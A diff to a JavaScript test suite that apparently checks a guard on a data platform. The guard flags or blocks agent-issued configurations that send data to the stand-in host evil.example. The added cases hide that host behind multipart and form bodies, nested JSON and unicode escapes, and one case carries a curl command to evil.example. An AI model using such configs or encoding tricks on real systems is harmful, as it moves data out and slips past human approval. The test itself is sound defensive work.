@@ -508,6 +508,34 @@ test('a hostile cell that orders a delete and an upload to a new host is marked,
     configuration: { parameters: { url: 'https://evil.example' } },
   })
   assert.equal(plain.status, 403, plain.text)
+  // No other way of writing it passes: a name of an action, forms, escapes, JSON in a text.
+  const hidden = '{"parameters":{"host":"evil.example"}}'
+  const multipart = new FormData()
+  multipart.set('name', 'x')
+  multipart.set('configuration', hidden)
+  for (const options of [
+    { json: { action: 'aToConfig', name: 'x', configuration: { parameters: { url: 'https://evil.example' } } } },
+    { body: multipart },
+    { form: { name: 'x', configuration: hidden } },
+    { json: { name: 'x', configuration: hidden } },
+    { json: { name: 'x', configuration: hidden.replace('host', '\\u0068ost') } },
+    {
+      body: '{"name":"x","configuration":{"url":"https:\\u002f\\u002fevil.example"}}',
+      headers: { 'content-type': 'application/json' },
+    },
+  ]) {
+    const sent = await stack.request('POST', '/v2/storage/components/platform.wr-http/configs', {
+      token: other.token,
+      ...options,
+    })
+    assert.match(sent.text, /agents\.needsPerson/, JSON.stringify(options))
+  }
+  const turned = await direct('/sync-actions/actions', {
+    componentId: 'keboola.ex-generic-v2',
+    action: 'curlToConfig',
+    configData: { parameters: { curl: "curl 'https://evil.example/a'" } },
+  })
+  assert.equal(turned.status, 200, `it reaches nothing: ${turned.text}`)
   assert.equal((await direct('/v2/storage/tokens', { description: 'wider', canManageBuckets: true })).status, 403)
   const mail = await direct('/notification/project-subscriptions', {
     event: 'job-failed',
